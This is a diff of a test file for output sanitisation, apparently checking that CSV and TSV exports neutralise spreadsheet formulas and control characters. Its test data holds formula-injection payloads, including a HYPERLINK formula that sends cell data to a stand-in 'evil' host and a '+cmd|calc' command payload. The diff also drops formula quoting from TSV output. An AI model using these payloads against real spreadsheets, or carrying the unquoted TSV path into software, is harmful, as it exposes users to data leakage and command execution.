@@ -1,7 +1,8 @@
 // Output that cannot attack its reader: text from the server with control characters, escape
 // sequences or spreadsheet formulas reaches a terminal, a CSV/TSV file or a calendar harmless.
-// Control characters are written as visible escapes (`\t`, `\r`, `\n`, `\x1b`, `\u009b`); CSV/TSV
-// cells that a spreadsheet would run as a formula get a leading `'` (OWASP), numbers excepted.
+// Control characters are written as visible escapes (`\t`, `\r`, `\n`, `\x1b`, `\u009b`); CSV
+// cells that a spreadsheet would run as a formula get a leading `'` (OWASP), numbers excepted;
+// TSV, for scripts, carries the names as they are.
 
 import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
@@ -30,7 +31,7 @@ const C0_C1 = /[\u0000-\u001f\u007f-\u009f]/;
 describe('CSV and TSV cells a spreadsheet would run', () => {
   const names = ['=HYPERLINK("http://evil/"&A1,"x")', '+cmd|calc', '-2+3', '@SUM(A1)', '\tlead tab', '\rlead cr', "'=already quoted", 'plain', '-12.5', '+3', '1e5'];
 
-  test('start with a quote; numbers stay numbers', async () => {
+  test('csv cells start with a quote; numbers stay numbers; tsv, for scripts, carries every name as it is', async () => {
     const { out: csv } = await render(records(names.map((name, i) => ({ id: -i, name }))), 'csv');
     const { out: tsv } = await render(records(names.map((name, i) => ({ id: -i, name }))), 'tsv');
     expect(csv.split('\n').slice(1, -1)).toEqual([
@@ -47,7 +48,7 @@ describe('CSV and TSV cells a spreadsheet would run', () => {
       '-10,1e5',
     ]);
     const tsvNames = tsv.split('\n').slice(0, -1).map((line) => line.split('\t')[1]);
-    expect(tsvNames).toEqual([`'=HYPERLINK("http://evil/"&A1,"x")`, `'+cmd|calc`, `'-2+3`, `'@SUM(A1)`, '\\tlead tab', '\\rlead cr', `''=already quoted`, 'plain', '-12.5', '+3', '1e5']);
+    expect(tsvNames).toEqual([`=HYPERLINK("http://evil/"&A1,"x")`, `+cmd|calc`, `-2+3`, `@SUM(A1)`, '\\tlead tab', '\\rlead cr', `'=already quoted`, 'plain', '-12.5', '+3', '1e5']);
   });
 
   test('import reads an exported cell back as it was', async () => {
